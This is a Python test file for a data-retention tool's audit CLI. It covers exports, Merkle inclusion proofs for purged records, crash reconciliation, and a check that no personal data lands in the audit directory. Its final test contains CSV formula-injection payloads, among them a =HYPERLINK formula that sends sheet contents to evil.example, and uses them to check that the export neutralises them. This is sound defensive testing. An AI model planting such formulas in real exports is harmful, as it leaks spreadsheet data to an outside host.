"""What auditors read (`audit show|export`) and what they can prove (`audit prove`), on a real
trail; and that the audit directory holds no raw key or personal value."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from retention.audit.entries import LEAVES_PER_CHUNK, read_entries
from retention.audit.leaves import record_leaf
from retention.audit.merkle import verify_chunked_inclusion
from retention.audit.prove import prove_record
from retention.audit.recorder import TrailRecorder
from retention.audit.report import RuleRun
from retention.audit.report_render import render_csv, render_jsonl
from retention.cli import Context, main
from retention.errors import ExitCode
from tests.support import make_config, plan_and_run
from tests.test_audit_verify import (
    CONTACTS,
    CUSTOMERS,
    FIRST_RUN,
    RULES,
    Trail,
    build_trail,
    create_database,
    customer_code,
    email,
    person,
    verify,
)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Trail:
    return build_trail(tmp_path_factory.mktemp("reports"))


@pytest.fixture
def with_config(built: Trail, monkeypatch: pytest.MonkeyPatch) -> Trail:
    """The CLI reads the trail's own config (audit directory and HMAC key) as if from a file."""
    monkeypatch.setattr(Context, "config", lambda self: built.config)
    return built


def invoke(*arguments: str) -> Result:
    return CliRunner().invoke(main, ["--log-format", "json", "audit", *arguments])


def export(trail: Trail, *options: str) -> list[dict[str, Any]]:
    result = invoke("export", "--dir", str(trail.directory), *options)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def run_ids(trail: Trail) -> list[str]:
    return [
        stored.content["run_id"]
        for stored in read_entries(trail.directory)
        if stored.content["type"] == "run.started"
    ]


# --- show and export ----------------------------------------------------------------------


def test_export_has_one_row_per_run_and_rule_matching_the_run_reports(built: Trail) -> None:
    rows = export(built)
    runs = run_ids(built)
    assert [(row["run_id"], row["rule"]) for row in rows] == [
        (run, outcome.rule) for run, report in zip(runs, built.reports, strict=True)
        for outcome in report.outcomes
    ]  # fmt: skip
    for row, outcome in zip(rows, [o for r in built.reports for o in r.outcomes], strict=True):
        assert row["done"] == outcome.done, row
        assert row["batches"] == outcome.batches, row
        assert row["due"] == outcome.due
        assert row["status"] == outcome.status == "ok"
        assert row["action"] in (None, outcome.action)
        assert row["tool"].startswith("retention ")
        assert row["host"]
        assert row["user"]
        assert row["run_started"].endswith("Z")
        assert row["run_finished"].endswith("Z")
    customers = rows[0]
    assert customers["policy"] == "P-7 §2: customers are deleted a year after their last visit"
    assert customers["category"] == "customer accounts"
    assert (customers["store"], customers["dataset"]) == ("db", "customers")
    assert customers["cutoff"] == "2025-01-01T12:00:00Z"
    assert (customers["selected"], customers["committed"], customers["rolled_back"]) == (12, 3, 0)
    assert customers["first_batch"] <= customers["last_batch"]
    contacts = rows[2]
    assert (contacts["action"], contacts["method"], contacts["done"]) == (
        "anonymise",
        "sql-anonymise",
        8,
    )
    assert (rows[5]["batches"], rows[5]["done"]) == (0, 0), "nothing due in the second run"


def test_csv_holds_the_same_rows_as_jsonl(built: Trail) -> None:
    result = invoke("export", "--dir", str(built.directory), "--format", "csv")
    assert result.exit_code == 0, result.output
    from_csv = list(csv.DictReader(io.StringIO(result.stdout)))
    from_jsonl = export(built)
    assert len(from_csv) == len(from_jsonl) == 6
    for csv_row, json_row in zip(from_csv, from_jsonl, strict=True):
        assert csv_row == {key: "" if v is None else str(v) for key, v in json_row.items()}


def test_show_prints_each_run_its_rules_counts_and_policies(built: Trail) -> None:
    result = invoke("show", "--dir", str(built.directory))
    assert result.exit_code == 0, result.output
    text = result.stdout
    first, second = run_ids(built)
    assert f"Run {first}: started " in text
    assert f"Run {second}: started " in text
    assert "db/customers" in text
    assert "db/orders" in text
    assert "P-7 §4: orders are deleted after six months (category: orders)" in text
    assert text.rstrip().endswith("56 records purged in 2 runs.")
    cells = [line.split() for line in text.splitlines()]
    customers = next(row for row in cells if row[:2] == ["stale-customers", "delete"])
    assert customers[4:7] == ["3", "12", "12"]  # batches, selected, done


def test_show_names_a_category_only_where_the_rule_has_one(tmp_path: Path) -> None:
    """Rules without a category (or without a policy) read as such, not "(category: )"."""
    url = f"sqlite:///{tmp_path / 'data.sqlite'}"
    create_database(url)
    rules = RULES.replace('category = "customer accounts"\n', "").replace(
        'policy = "P-7 §4: orders are deleted after six months"\n', ""
    )
    plan_and_run(make_config(url, rules, audit_directory=tmp_path / "audit"), FIRST_RUN)

    result = invoke("show", "--dir", str(tmp_path / "audit"))

    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert "  stale-customers: P-7 §2: customers are deleted a year after their last visit" in lines
    assert "  old-orders: (no policy) (category: orders)" in lines
    assert "(category: )" not in result.stdout


def test_filters_by_rule_and_by_run_start(built: Trail) -> None:
    rows = export(built)
    first, second = run_ids(built)
    only_orders = export(built, "--rule", "old-orders")
    assert [(row["run_id"], row["done"]) for row in only_orders] == [(first, 12), (second, 12)]
    second_start = rows[3]["run_started"]
    assert [row["run_id"] for row in export(built, "--since", second_start)] == [second] * 3
    assert [row["run_id"] for row in export(built, "--until", second_start)] == [first] * 3
    assert export(built, "--since", "2999-01-01") == []
    shown = invoke("show", "--dir", str(built.directory), "--rule", "dormant-contacts")
    assert "stale-customers" not in shown.stdout
    assert "dormant-contacts" in shown.stdout
    bad = invoke("show", "--dir", str(built.directory), "--since", "last tuesday")
    assert bad.exit_code == ExitCode.USAGE
    assert "--since 'last tuesday' is not an ISO 8601 date or time" in bad.stderr


@pytest.mark.parametrize("command", ["show", "export"])
def test_a_rule_neither_the_config_nor_the_trail_knows_is_a_usage_error(
    with_config: Trail, command: str
) -> None:
    # With --dir alone, the trail tells which rules exist.
    typo = invoke(command, "--dir", str(with_config.directory), "--rule", "old-ordres")
    assert typo.exit_code == ExitCode.USAGE, typo.output
    assert "--rule 'old-ordres' is not a rule of the trail (" in typo.stderr
    assert "old-orders" in typo.stderr, "the known rules are named"
    assert "no config read: give --config to add its rules)" in typo.stderr
    assert typo.stdout == ""
    # From the config: its rules and the trail's; a known rule among unknown ones is no excuse.
    both = invoke(command, "--rule", "old-orders", "--rule", "nosuchrule")
    assert both.exit_code == ExitCode.USAGE, both.output
    assert "--rule 'nosuchrule' is not a rule of the config or the trail" in both.stderr
    assert invoke(command, "--rule", "old-orders").exit_code == 0


# --- prove --------------------------------------------------------------------------------


def test_prove_finds_a_deleted_record_with_a_proof_that_verifies(with_config: Trail) -> None:
    trail = with_config
    result = invoke("prove", "--store", "db", "--table", "customers", "--key", customer_code(3))
    assert result.exit_code == 0, result.output
    assert f"db/customers/{customer_code(3)}: purged" in result.stdout
    assert f"run        {run_ids(trail)[0]}" in result.stdout
    assert "rule       stale-customers (delete)" in result.stdout
    assert "verified; covered by checkpoint seq" in result.stdout

    search = prove_record(trail.directory, trail.hmac_key, "db", "customers", [customer_code(3)])
    (proof,) = search.proofs
    leaf = record_leaf(trail.hmac_key, "db", "customers", (customer_code(3),))
    assert len(proof.chunk) == proof.size  # one chunk: a batch of fewer than 64 records
    assert verify_chunked_inclusion(
        leaf, proof.index, proof.size, proof.chunk, proof.path, proof.root, LEAVES_PER_CHUNK
    )
    intent = next(s.content for s in read_entries(trail.directory) if s.content["seq"] == proof.seq)
    assert intent["type"] == "batch.intent"
    assert intent["leaves_root"] == proof.root.hex()
    other = record_leaf(trail.hmac_key, "db", "customers", (customer_code(4),))
    assert not verify_chunked_inclusion(
        other, proof.index, proof.size, proof.chunk, proof.path, proof.root, LEAVES_PER_CHUNK
    )


def test_prove_a_composite_key_and_an_anonymised_record(with_config: Trail) -> None:
    order = invoke(
        "prove", "--store", "db", "--table", "orders", "--key", customer_code(3), "--key", "7"
    )
    assert order.exit_code == 0, order.output
    assert "rule       old-orders (delete)" in order.stdout
    swapped = invoke(
        "prove", "--store", "db", "--table", "orders", "--key", "7", "--key", customer_code(3)
    )
    assert swapped.exit_code == ExitCode.PARTIAL_FAILURE, swapped.output
    contact = invoke("prove", "--store", "db", "--table", "contacts", "--key", "503")
    assert contact.exit_code == 0, contact.output
    assert "rule       dormant-contacts (anonymise)" in contact.stdout


@pytest.mark.parametrize(
    ("table", "key"),
    [("customers", customer_code(CUSTOMERS)), ("customers", "NO-SUCH-KEY"), ("contacts", "512")],
    ids=["kept", "unknown", "kept-contact"],
)
def test_prove_says_a_record_never_purged_is_not_in_the_trail(
    with_config: Trail, table: str, key: str
) -> None:
    result = invoke("prove", "--store", "db", "--table", table, "--key", key)
    assert result.exit_code == ExitCode.PARTIAL_FAILURE, result.output
    assert f"db/{table}/{key}: not in the trail" in result.stdout


def test_prove_without_an_audit_key_is_a_config_error(
    built: Trail, monkeypatch: pytest.MonkeyPatch
) -> None:
    unaudited = make_config(built.url, RULES)
    monkeypatch.setattr(Context, "config", lambda self: unaudited)
    result = invoke("prove", "--store", "db", "--table", "customers", "--key", customer_code(3))
    assert result.exit_code == ExitCode.BAD_CONFIG, result.output


# --- crash reconciliation -----------------------------------------------------------------


class Crash(BaseException):
    """The process dies between a batch's commit and its result entry."""


def test_a_batch_reconciled_after_a_crash_counts_for_the_crashed_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"sqlite:///{tmp_path / 'data.sqlite'}"
    create_database(url)
    config = make_config(url, RULES, audit_directory=tmp_path / "audit")
    trail = Trail(tmp_path, url, config, ())
    original = TrailRecorder.result
    results: list[int] = []

    def crash_on_the_second_result(self: TrailRecorder, *arguments: Any) -> None:
        results.append(1)
        if len(results) == 2:
            raise Crash
        original(self, *arguments)

    monkeypatch.setattr(TrailRecorder, "result", crash_on_the_second_result)
    with pytest.raises(Crash):
        plan_and_run(config, FIRST_RUN)
    assert len(list((trail.directory / "pending").iterdir())) == 1
    monkeypatch.undo()
    plan_and_run(config, FIRST_RUN)
    assert not list((trail.directory / "pending").iterdir())

    assert verify(trail).valid
    rows = export(trail)
    crashed, recovered = run_ids(trail)
    customers = next(r for r in rows if (r["run_id"], r["rule"]) == (crashed, "stale-customers"))
    assert (customers["batches"], customers["committed"], customers["reconciled"]) == (2, 1, 1)
    assert (customers["done"], customers["done_by_reconciliation"]) == (10, 5)
    assert customers["run_finished"] is None
    assert customers["unsettled"] == 0
    after = next(r for r in rows if (r["run_id"], r["rule"]) == (recovered, "stale-customers"))
    assert after["done"] == 2

    search = prove_record(trail.directory, trail.hmac_key, "db", "customers", [customer_code(7)])
    (proof,) = search.proofs
    assert (proof.entry_type, proof.run_id) == ("batch.reconciled", crashed)
    assert proof.verified


def test_a_record_whose_batch_crashed_before_its_write_is_not_claimed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"sqlite:///{tmp_path / 'data.sqlite'}"
    create_database(url)
    config = make_config(url, RULES, audit_directory=tmp_path / "audit")
    trail = Trail(tmp_path, url, config, ())
    original = TrailRecorder.intent

    def crash_after_the_intent(self: TrailRecorder, *arguments: Any) -> int:
        original(self, *arguments)
        raise Crash

    monkeypatch.setattr(TrailRecorder, "intent", crash_after_the_intent)
    with pytest.raises(Crash):
        plan_and_run(config, FIRST_RUN)
    monkeypatch.undo()
    result = verify(trail)
    assert result.valid
    assert result.unsigned == result.entries, "no checkpoint yet"
    search = prove_record(trail.directory, trail.hmac_key, "db", "customers", [customer_code(1)])
    assert search.proofs == []
    assert [status for _seq, status in search.not_purged] == ["not settled"]

    plan_and_run(config, FIRST_RUN)  # reconciles (nothing was done), then purges it for real
    entries = [stored.content for stored in read_entries(trail.directory)]
    (reconciled,) = [entry for entry in entries if entry["type"] == "batch.reconciled"]
    assert (reconciled["intent"], reconciled["done"], reconciled["not_done"]) == (2, 0, 5)
    search = prove_record(trail.directory, trail.hmac_key, "db", "customers", [customer_code(1)])
    (proof,) = search.proofs
    assert (proof.entry_type, proof.run_id) == ("batch.intent", run_ids(trail)[1])
    assert verify(trail).valid


# --- no personal data ---------------------------------------------------------------------


def test_the_audit_directory_holds_no_raw_key_or_personal_value(built: Trail) -> None:
    assert not list((built.directory / "pending").iterdir()), "pending/ empties after a run"
    forbidden = [
        *(customer_code(n) for n in range(1, CUSTOMERS + 1)),
        *(email(n) for n in [*range(1, CUSTOMERS + 1), *range(101, 101 + CONTACTS)]),
        *(person(n) for n in [*range(1, CUSTOMERS + 1), *range(101, 101 + CONTACTS)]),
        "CUST-Q7X",
        "zelda",
        "Quinchbury",
        "example.org",
        "db/customers/",
    ]
    files = [path for path in built.directory.rglob("*") if path.is_file()]
    assert len(files) > 10
    scanned = 0
    for path in files:
        content = path.read_bytes().lower()
        scanned += len(content)
        for value in forbidden:
            assert value.lower().encode() not in content, f"{value!r} in {path}"
    assert scanned > 10_000
    # And the check itself can see such a value: the database does hold them.
    assert b"example.org" in Path(built.url.removeprefix("sqlite:///")).read_bytes()


def test_export_times_are_utc(built: Trail) -> None:
    for row in export(built):
        for name in ("run_started", "run_finished", "cutoff", "first_batch", "last_batch"):
            if row[name] is not None:
                assert datetime.fromisoformat(row[name]).utcoffset() == timedelta(0)


def test_csv_keeps_a_spreadsheet_from_running_a_text_as_a_formula() -> None:
    """A hold's reason or an erasure's reference is typed or pasted by whoever asks, and an
    entry after the last checkpoint by anyone who can write the trail: `export --format csv`
    wrote `=HYPERLINK(…)` as it was, which a spreadsheet runs (and leaks the sheet through)."""
    hostile = RuleRun(
        run_id="=1+1",
        run_started=None,
        run_finished=None,
        rule="-2+3",
        policy='=HYPERLINK("https://evil.example/?"&A2,"open")',
        erasure="+33 6 12 34 56 78",
        hold_reason="@SUM(1)",
        user="\tx",
        host="db-1",
    )
    (row,) = csv.DictReader(io.StringIO(render_csv([hostile])))
    assert (row["run_id"], row["rule"], row["erasure"]) == ("'=1+1", "'-2+3", "'+33 6 12 34 56 78")
    assert row["policy"] == '\'=HYPERLINK("https://evil.example/?"&A2,"open")'
    assert (row["hold_reason"], row["user"], row["host"]) == ("'@SUM(1)", "'\tx", "db-1")
    assert row["done"] == "0"
    # JSON Lines, a machine format no spreadsheet evaluates, keeps each text as it is.
    (line,) = render_jsonl([hostile]).splitlines()
    assert json.loads(line)["policy"] == hostile.policy
